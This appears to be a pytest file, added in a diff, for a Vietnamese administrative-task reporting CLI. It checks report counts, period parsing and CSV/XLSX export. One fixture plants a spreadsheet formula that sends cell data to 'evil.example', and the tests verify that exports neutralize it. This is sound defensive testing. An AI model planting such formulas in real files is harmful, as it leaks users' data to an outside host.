@@ -1,0 +1,266 @@
+"""The periodic report on the reference notice, against numbers worked out by hand."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import shutil
+import subprocess
+from datetime import date
+
+import pytest
+from typer.testing import CliRunner
+
+from cchc_cli.cli import app
+from cchc_cli.dateargs import Period, parse_period
+from cchc_cli.errors import OptionError
+
+runner = CliRunner()
+NOTICE = "tb-ket-luan-cchc-vinh-linh-2023-11.yaml"
+CATEGORIES = ("done_on_time", "done_late", "done_no_deadline", "in_progress", "overdue", "ongoing")
+
+
+def cchc(*args: str):
+    return runner.invoke(app, list(args), prog_name="cchc")
+
+
+def report(*args: str) -> dict:
+    result = cchc("report", "-f", "json", *args)
+    assert result.exit_code == 0, result.stderr
+    return json.loads(result.stdout)
+
+
+def mark(data_dir, after: str, lines: str) -> None:
+    path = data_dir / "notices" / NOTICE
+    text = path.read_text("utf-8")
+    assert text.count(after) == 1
+    path.write_text(text.replace(after, after + lines), "utf-8")
+
+
+def row(document: dict, unit: str) -> tuple:
+    (found,) = [r for r in document["units"] if r["unit"] == unit]
+    return (found["total"], *(found[c] for c in CATEGORIES), found["overdue_rate"])
+
+
+# Phòng Nội vụ has 1.1, 1.3 and 2.1, 2.4 (no deadline), 1.2 (last day 24/11),
+# 2.3 (24/11) and 2.2 (09/12). Xã Vĩnh Hà has 1.1 (none), 1.2 (24/11), 8.2
+# (23/11), 8.3 (13/12) and 8.1 (14/12).
+@pytest.mark.parametrize(
+    ("args", "noi_vu", "vinh_ha"),
+    [
+        (["--period", "2023-11", "--as-of", "2023-11-22"], (7, 0, 0, 0, 3, 0, 4, 0.0),
+         (5, 0, 0, 0, 4, 0, 1, 0.0)),
+        (["--period", "2023-11"], (7, 0, 0, 0, 1, 2, 4, 66.7), (5, 0, 0, 0, 2, 2, 1, 50.0)),
+        (["--period", "2023-Q4"], (7, 0, 0, 0, 0, 3, 4, 100.0), (5, 0, 0, 0, 0, 4, 1, 100.0)),
+        (["--period", "2023-12-01..2023-12-13"], (7, 0, 0, 0, 0, 3, 4, 100.0),
+         (5, 0, 0, 0, 2, 2, 1, 50.0)),
+    ],
+)  # fmt: skip
+def test_numbers_per_unit_as_of_the_end_of_the_period(data_dir, args, noi_vu, vinh_ha):
+    document = report(*args)
+    assert row(document, "noi-vu") == noi_vu
+    assert row(document, "vinh-ha") == vinh_ha
+
+
+def test_totals_count_each_member_of_a_group_once(data_dir):
+    document = report("--period", "2023-11")
+    totals = document["totals"]
+    assert (totals["total"], totals["in_progress"], totals["overdue"], totals["ongoing"]) == (
+        141,
+        43,
+        51,
+        47,
+    )
+    assert totals["overdue_rate"] == 54.3  # 51 of the 94 pairs with a deadline
+    assert len(document["units"]) == 31
+
+
+def test_completions_count_on_time_or_late(data_dir):
+    mark(data_dir, "    deadline: trước ngày 25/11/2023\n", "    done: {noi-vu: 2023-11-24}\n")
+    mark(data_dir, "    report_to: noi-vu\n", "    done: {noi-vu: 2023-11-26}\n")
+    document = report("--period", "2023-11")
+    assert row(document, "noi-vu") == (7, 1, 1, 0, 1, 0, 4, 0.0)
+    early = report("--period", "2023-11", "--as-of", "2023-11-25")
+    assert row(early, "noi-vu") == (7, 1, 0, 0, 1, 1, 4, 33.3)
+
+
+def test_notices_issued_after_the_period_are_left_out(data_dir):
+    document = report("--period", "2023-10")
+    assert document["units"] == [] and document["totals"]["total"] == 0
+    result = cchc("report", "--period", "2023-10")
+    assert "Không có nhiệm vụ nào." in result.stdout
+
+
+def test_units_in_vietnamese_order_or_the_registry_s(data_dir):
+    alpha = [r["unit"] for r in report("--period", "2023-11")["units"]]
+    assert alpha[:3] == ["ban-qlda", "gd-dt", "kt-ht"]
+    assert alpha.index("vp-hdnd-ubnd") < alpha.index("hien-thanh")
+    registry = [r["unit"] for r in report("--period", "2023-11", "--order", "registry")["units"]]
+    assert registry[:3] == ["vp-hdnd-ubnd", "noi-vu", "tu-phap"]
+
+
+def test_the_overdue_list_marks_what_is_late_by_more_than_30_days(data_dir):
+    document = report("--period", "2023-12", "--unit", "noi-vu")
+    listed = [(o["ref"], o["days_overdue"], o["long"]) for o in document["overdue"]]
+    assert listed == [
+        ("cchc-2023-11/1.2", 37, True),
+        ("cchc-2023-11/2.3", 37, True),
+        ("cchc-2023-11/2.2", 22, False),
+    ]
+    assert document["overdue"][0]["deadline"] == "chậm nhất ngày 24/11/2023"
+
+
+def test_ongoing_tasks_with_no_report_for_three_months(data_dir):
+    assert report("--period", "2024-01", "--unit", "noi-vu")["quiet"] == []
+    quiet = report("--period", "2024-02", "--unit", "noi-vu")["quiet"]
+    assert [q["ref"] for q in quiet] == [
+        "cchc-2023-11/1.1",
+        "cchc-2023-11/1.3",
+        "cchc-2023-11/2.1",
+        "cchc-2023-11/2.4",
+    ]
+    assert quiet[0]["since"] == "2023-11-01"
+    mark(
+        data_dir,
+        "      phục vụ công tác đánh giá, xếp loại cuối năm.\n",
+        "    notes:\n      - {on: 2024-01-15, text: đã tổng hợp quý IV}\n",
+    )
+    quiet = report("--period", "2024-02", "--unit", "noi-vu")["quiet"]
+    assert "cchc-2023-11/2.4" not in [q["ref"] for q in quiet]
+
+
+# -- periods ---------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("text", "start", "end", "label"),
+    [
+        ("2023-11", date(2023, 11, 1), date(2023, 11, 30), "2023-11"),
+        ("11/2023", date(2023, 11, 1), date(2023, 11, 30), "2023-11"),
+        ("2024-02", date(2024, 2, 1), date(2024, 2, 29), "2024-02"),
+        ("2023-Q4", date(2023, 10, 1), date(2023, 12, 31), "2023-Q4"),
+        ("q1/2024", date(2024, 1, 1), date(2024, 3, 31), "2024-Q1"),
+        ("2023", date(2023, 1, 1), date(2023, 12, 31), "2023"),
+        ("01/11/2023..15/11/2023", date(2023, 11, 1), date(2023, 11, 15),
+         "2023-11-01..2023-11-15"),
+        ("2023-11-01..eom", date(2023, 11, 1), date(2023, 11, 30), "2023-11-01..2023-11-30"),
+    ],
+)  # fmt: skip
+def test_periods(text, start, end, label):
+    assert parse_period(text, date(2023, 11, 20)) == Period(start, end, label)
+
+
+@pytest.mark.parametrize(
+    ("text", "key"),
+    [
+        ("2023-13", "date.bad-month"),
+        ("2023-Q5", "cli.bad-period"),
+        ("tháng trước", "cli.bad-period"),
+        ("2023-12-01..2023-11-01", "cli.period-reversed"),
+        ("2023-11-31..2023-12-01", "date.bad-day"),
+    ],
+)
+def test_bad_periods_are_usage_errors(text, key):
+    with pytest.raises(OptionError) as caught:
+        parse_period(text, date(2023, 11, 20))
+    assert (caught.value.option, caught.value.key) == ("--period", key)
+
+
+def test_a_bad_period_on_the_command_line_exits_2(data_dir):
+    result = cchc("report", "--period", "2023-Q5", "--lang", "en")
+    assert result.exit_code == 2
+    assert result.stderr.startswith("cchc: error: --period: '2023-Q5' is not a period; use")
+
+
+# -- formats -----------------------------------------------------------------------------
+
+
+def test_markdown_for_pasting(data_dir, golden):
+    result = cchc("report", "--period", "2023-12", "--unit", "gd-dt", "-f", "md")
+    assert result.exit_code == 0
+    golden("report-gd-dt.md", result.stdout)
+
+
+def test_the_terminal_table(data_dir, golden):
+    result = cchc("report", "--period", "2023-12", "--unit", "Vĩnh Hoà", "--lang", "en")
+    golden("report-vinh-hoa.en.txt", result.stdout)
+
+
+@pytest.fixture
+def hostile(data_dir):
+    """A task whose text a spreadsheet would run as a formula."""
+    (data_dir / "notices" / "x.yaml").write_text(
+        "id: tb-x\ndate: 2023-11-01\ntitle: T\ntasks:\n"
+        "  - id: '1'\n    assignees: [noi-vu]\n"
+        '    text: \'=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")\'\n'
+        "    deadline: trước ngày 10/11/2023\n",
+        "utf-8",
+    )
+    return '=HYPERLINK("http://evil.example/?"&A1, "Bấm vào đây")'
+
+
+def test_csv_has_every_table_and_neutralizes_formulas(hostile):
+    result = cchc("report", "--period", "2023-11", "--unit", "noi-vu", "-f", "csv")
+    assert result.stdout.startswith("\ufeffBÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ")
+    rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff"))))
+    assert rows[4][:3] == ["STT", "Đơn vị", "Tổng số nhiệm vụ"]
+    assert rows[5][:3] == ["1", "Phòng Nội vụ", "8"]
+    texts = [cell for r in rows for cell in r if "HYPERLINK" in cell]
+    assert texts == ["'" + hostile]
+    listed = cchc("list", "--unit", "noi-vu", "-f", "csv").stdout
+    assert "'=HYPERLINK" in listed
+
+
+def test_the_workbook_read_back(hostile, tmp_path):
+    from openpyxl import load_workbook
+
+    path = tmp_path / "bao-cao.xlsx"
+    result = cchc("report", "--period", "2023-11", "-f", "xlsx", "-o", str(path))
+    assert result.exit_code == 0, result.stderr
+    workbook = load_workbook(path)
+    assert workbook.sheetnames == ["Tổng hợp", "Quá hạn", "Không thời hạn", "Biểu đồ"]
+    summary = workbook.worksheets[0]
+    assert summary["A1"].value == "BÁO CÁO TÌNH HÌNH THỰC HIỆN NHIỆM VỤ THEO THÔNG BÁO KẾT LUẬN"
+    assert summary["A2"].value == (
+        "UBND huyện Vĩnh Linh - kỳ báo cáo 2023-11, số liệu tính đến ngày 30/11/2023"
+    )
+    assert [c.value for c in summary[4]][:3] == ["STT", "Đơn vị", "Tổng số nhiệm vụ"]
+    assert all(c.font.bold for c in summary[4] if c.value)
+    assert summary.freeze_panes == "A5"
+    noi_vu = next(r for r in summary.iter_rows(min_row=5) if r[1].value == "Phòng Nội vụ")
+    assert noi_vu[2].value == 8 and isinstance(noi_vu[2].value, int)
+    assert noi_vu[9].value == pytest.approx(0.75)  # 3 overdue of 4 with a deadline
+    assert noi_vu[9].number_format == "0.0%"
+    totals = next(r for r in summary.iter_rows(min_row=5) if r[1].value == "Tổng cộng")
+    assert totals[2].value == 142 and totals[1].font.bold
+    assert summary.column_dimensions["B"].width >= len("Ban Quản lý dự án đầu tư xây dựng huyện")
+    overdue = workbook.worksheets[1]
+    cells = [c for r in overdue.iter_rows() for c in r if c.value and "HYPERLINK" in str(c.value)]
+    assert [(c.value, c.data_type) for c in cells] == [(hostile, "s")]
+    assert overdue.freeze_panes == "A2"
+    assert len(workbook.worksheets[3]._charts) == 1
+
+
+def test_xlsx_needs_an_output_file(data_dir):
+    result = cchc("report", "-f", "xlsx", "--lang", "en")
+    assert (result.exit_code, result.stderr) == (
+        2,
+        "cchc: error: --format xlsx needs --output FILE.xlsx\n",
+    )
+
+
+@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not installed")
+def test_the_workbook_renders_in_libreoffice(data_dir, tmp_path):
+    path = tmp_path / "bao-cao.xlsx"
+    assert cchc("report", "--period", "2023-11", "-f", "xlsx", "-o", str(path)).exit_code == 0
+    subprocess.run(
+        ["libreoffice", "--headless", "--convert-to", "pdf", "--outdir", str(tmp_path), str(path)],
+        check=True,
+        capture_output=True,
+        timeout=180,
+    )
+    pdf = (tmp_path / "bao-cao.pdf").read_bytes()
+    pages = re.findall(rb"/Type\s*/Page[^s]", pdf)
+    assert pdf.startswith(b"%PDF") and len(pages) >= 4
